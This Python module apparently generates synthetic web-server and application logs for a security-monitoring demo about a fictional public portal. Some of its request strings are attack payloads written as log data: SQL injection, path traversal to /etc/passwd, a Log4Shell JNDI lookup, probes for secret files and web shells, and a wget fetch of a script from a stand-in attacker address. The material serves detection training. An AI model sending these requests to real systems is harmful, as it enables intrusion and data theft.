"""Harmless web traffic: people, search engines, health checks, and the everyday noise that is refused."""

# ruff: noqa: E501 - log lines stand whole, as programs write them

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import datetime

from soc.demo.benign.world import BROWSERS, ROBOTS, STAFF, World, access_time, utc_text

_PAGES = (
    "/", "/news/", "/news/2026/03/openday", "/service/", "/service/list.php", "/service/apply", "/search", "/tenders",
    "/contact", "/documents/", "/docs/law/2025-91", "/about/administration", "/login", "/api/v1/applications", "/rss.xml",
)  # fmt: skip
_ASSETS = (
    "/static/app.8f2c1.js", "/static/site.4b1a.css", "/img/logo.png", "/img/banner-2026.webp", "/favicon.ico",
    "/uploads/2026/03/poster.jpg", "/uploads/2026/02/report.pdf", "/fonts/inter.woff2",
)  # fmt: skip
_QUERIES = (
    "?q=giay+phep+xay+dung", "?q=union+members+select+delegates", "?page=2", "?id=88213&do=view", "?lang=vi",
    "?name=O%27Brien+and+sons", "?return=https://portal.bo.example/service/list.php", "?from=2026-01-01&to=2026-03-01",
    "?q=t%C3%ACm+ki%E1%BA%BFm", "?c=category&run=list", "?max=$500&type=dns:service", "",
)  # fmt: skip
_PROBES = (
    "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/admin.php", "/wp-admin/setup-config.php", "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/health", "/boaform/admin/formLogin",
    "/cgi-bin/luci/;stok=/locale", "/solr/admin/info/system", "/manager/html", "/backup.sql", "/HNAP1",
    "/shell.php?cmd=id", "/index.php?s=/Index/think/app/invokefunction", "/uploads/shell.php",
)  # fmt: skip


def _line(
    client: str, user: str, at: datetime, request: str, status: int, size: int, referer: str, agent: str
) -> str:
    return f'{client} - {user} [{access_time(at)}] "{request}" {status} {size or "-"} "{referer}" "{agent}"'


def nginx(world: World, count: int) -> Iterator[tuple[datetime, str]]:
    """The public portal."""
    kinds = ((70, _visit), (9, _robot), (9, _health), (5, _interface), (7, _refused))
    for at in world.moments(count):
        yield at, world.weighted(kinds)(world, at)


def _visit(world: World, at: datetime) -> str:
    client, agent = world.outside(), world.pick(BROWSERS)
    if world.chance(0.62):
        status = world.weighted(((80, 200), (18, 304), (2, 404)))
        size = world.below(240_000, 300) if status == 200 else 0
        return _line(
            client,
            "-",
            at,
            f"GET {world.pick(_ASSETS)} HTTP/1.1",
            status,
            size,
            "https://portal.bo.example/",
            agent,
        )
    status = world.weighted(((90, 200), (4, 302), (3, 404), (1, 499), (1, 500), (1, 503)))
    target = world.pick(_PAGES) + (world.pick(_QUERIES) if world.chance(0.4) else "")
    return _line(client, "-", at, f"GET {target} HTTP/2.0", status, world.below(60_000, 400), "-", agent)


def _robot(world: World, at: datetime) -> str:
    target = world.weighted(
        ((3, "/robots.txt"), (2, "/sitemap.xml"), (10, world.pick(_PAGES)), (2, "/old/page.html"))
    )
    status = 404 if target.startswith("/old") else 200
    return _line(
        world.outside(),
        "-",
        at,
        f"GET {target} HTTP/1.1",
        status,
        world.below(40_000, 100),
        "-",
        world.pick(ROBOTS),
    )


def _health(world: World, at: datetime) -> str:
    del world  # the check is the same each time
    return _line(
        "10.20.1.5",
        "-",
        at,
        "GET /healthz HTTP/1.1",
        200,
        2,
        "-",
        "check_http/v2.4.9 (monitoring-plugins 2.4.9)",
    )


def _interface(world: World, at: datetime) -> str:
    method, status = world.weighted(
        ((6, ("GET", 200)), (3, ("POST", 201)), (1, ("PUT", 200)), (1, ("POST", 422)))
    )
    target = f"/api/v1/applications/{world.below(99_999, 10_000)}"
    page = "https://portal.bo.example/service/apply"
    return _line(
        world.outside(),
        "-",
        at,
        f"{method} {target} HTTP/2.0",
        status,
        world.below(4_000, 40),
        page,
        world.pick(BROWSERS),
    )


def _refused(world: World, at: datetime) -> str:
    """What every address on the Internet is asked for every day, and what the portal does not have."""
    if world.chance(0.06):
        return _line(
            world.outside(),
            "-",
            at,
            "\\x16\\x03\\x01\\x01\\xFC\\x01\\x00\\x01\\xF8\\x03\\x03",
            400,
            157,
            "-",
            "-",
        )
    if world.chance(0.05):
        return _line(world.outside(), "-", at, "GET /../../../../etc/passwd HTTP/1.1", 400, 157, "-", "-")
    status = world.weighted(((80, 404), (20, 403)))
    agent = world.pick(("Mozilla/5.0", "Go-http-client/1.1", "python-requests/2.31.0", BROWSERS[0]))
    return _line(world.outside(), "-", at, f"GET {world.pick(_PROBES)} HTTP/1.1", status, 153, "-", agent)


_SCANNERS = (
    ("203.0.113.12", "Mozilla/5.0 zgrab/0.x"),
    ("192.0.2.188", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    ("203.0.113.118", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    ("2001:db8:13::7", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
)
_ATTEMPTS = (
    ("GET /search?q=1%27%20OR%201=1--%20- HTTP/1.1", 200, 15120, "python-requests/2.31.0"),
    ("GET /search?q=-1%20UNION%20SELECT%201,2,3 HTTP/1.1", 403, 1160, "python-requests/2.31.0"),
    ("GET /?x=${jndi:ldap://203.0.113.40/a} HTTP/1.1", 200, 15120, "Mozilla/5.0"),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1", 400, 157, "curl/8.5.0"),
    ("GET /index.php?page=php://filter/resource=index HTTP/1.1", 404, 153, "curl/8.5.0"),
    ("GET /;wget+http://203.0.113.40/x.sh HTTP/1.1", 404, 153, "Go-http-client/1.1"),
    ("PUT /test.jsp/ HTTP/1.1", 405, 559, "curl/8.5.0"),
)
_TRIER = "203.0.113.40"


def portal(world: World, count: int) -> Iterator[tuple[datetime, str]]:
    """The public portal with the scanners that visit every address of the Internet, day by day."""
    probes = count // 250
    yield from sorted([*nginx(world, count - probes), *_probed(world, probes)])


def _probed(world: World, count: int) -> Iterator[tuple[datetime, str]]:
    for at in world.moments(count):
        if world.chance(0.7):
            client, agent = world.pick(_SCANNERS)
            target = world.pick(("/", *_PROBES[:5]))
            yield (
                at,
                _line(
                    client, "-", at, f"GET {target} HTTP/1.1", 200 if target == "/" else 404, 153, "-", agent
                ),
            )
        else:
            request, status, size, agent = world.pick(_ATTEMPTS)
            yield at, _line(_TRIER, "-", at, request, status, size, "-", agent)


_EDOC = (
    "/edoc/inbox",
    "/edoc/view?id=7741",
    "/edoc/sign",
    "/edoc/attachments/a91f/cong-van.pdf",
    "/edoc/api/tasks",
    "/edoc/logout",
)


def apache(world: World, count: int) -> Iterator[tuple[datetime, str]]:
    """The document system, used from inside under one's own name."""
    for at in world.moments(count):
        method = world.weighted(((8, "GET"), (2, "POST")))
        status = world.weighted(((92, 200), (4, 304), (2, 401), (1, 404), (1, 500)))
        user = "-" if status == 401 else world.pick(STAFF)
        if world.chance(0.02):
            method, status, target = "PUT", 204, "/dav/quyet-dinh-12.docx"
        else:
            target = world.pick(_EDOC)
        size = world.below(90_000, 200) if status == 200 else 0
        yield (
            at,
            _line(
                world.desk(),
                user,
                at,
                f"{method} {target} HTTP/1.1",
                status,
                size,
                "-",
                world.pick(BROWSERS[:3]),
            ),
        )


_DEEDS = (
    ("document_opened", "document"),
    ("document_signed", "document"),
    ("application_submitted", "service"),
    ("application_status_read", "service"),
    ("signed_in", "account"),
    ("signed_out", "account"),
)


def application(world: World, count: int) -> Iterator[tuple[datetime, str]]:
    """What the public-service portal and the document system note themselves, as JSON lines."""
    for at in world.moments(count):
        action, kind = world.pick(_DEEDS)
        yield (
            at,
            json.dumps(
                {
                    "@timestamp": utc_text(at),
                    "event": {"action": action, "category": kind, "outcome": "success"},
                    "service": {"name": world.pick(("portal", "edoc"))},
                    "user": {"name": world.pick(STAFF)},
                    "source": {"ip": world.desk()},
                    "message": f"{action.replace('_', ' ')} ({world.hex(8)})",
                },
                separators=(",", ":"),
            ),
        )
